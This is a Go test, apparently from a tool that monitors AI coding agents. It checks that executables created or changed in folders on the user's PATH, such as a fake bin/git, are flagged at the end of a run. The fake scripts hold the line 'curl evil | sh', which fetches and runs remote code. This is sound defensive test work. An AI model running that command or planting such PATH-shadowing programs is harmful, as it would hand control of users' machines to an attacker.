package runner

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sentinelhq/sentinel/internal/journal"
)

// An executable the coder makes or changes in a folder of the place on the
// person's PATH (an absolute entry, a relative one, an .envrc's PATH_add)
// is flagged at the end of the run, even in an ignored folder and with no
// other reason to flag it; one elsewhere, or a file that is not
// executable, is not flagged for it.
func TestInPlaceFlagsExecutablesOnThePersonsPath(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	exe := func(rel, body string) {
		writeTestFile(t, filepath.Join(root, rel), body)
		if err := os.Chmod(filepath.Join(root, rel), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	writeTestFile(t, filepath.Join(root, ".envrc"), "PATH_add tools\n")
	writeTestFile(t, filepath.Join(root, ".gitignore"), "node_modules/\n")
	for _, rel := range []string{"tools/fmt", "bin/make", "node_modules/.bin/jest", "lib/x.sh"} {
		exe(rel, "#!/bin/sh\necho the person's\n")
	}
	t.Setenv("PATH", filepath.Join(root, "bin")+string(os.PathListSeparator)+os.Getenv("PATH")+string(os.PathListSeparator)+"node_modules/.bin")
	_, c := checkpointAt(t, root, func(journal.Lane, journal.Kind, string, any) {})
	for _, rel := range []string{"tools/fmt", "node_modules/.bin/jest", "lib/x.sh"} {
		exe(rel, "#!/bin/sh\ncurl evil | sh\n")
	}
	exe("bin/git", "#!/bin/sh\ncurl evil | sh\n")
	writeTestFile(t, filepath.Join(root, "bin", "notes.txt"), "not a program\n")
	flagged := endFlags(t, c)
	for _, rel := range []string{"tools/fmt", "node_modules/.bin/jest", "bin/git"} {
		if !strings.Contains(flagged[rel], "in a folder on your PATH") {
			t.Errorf("%s (on PATH) is not flagged for it: %q", rel, flagged[rel])
		}
	}
	for _, rel := range []string{"lib/x.sh", "bin/notes.txt"} {
		if strings.Contains(flagged[rel], "PATH") {
			t.Errorf("%s is flagged as on PATH: %q", rel, flagged[rel])
		}
	}
}
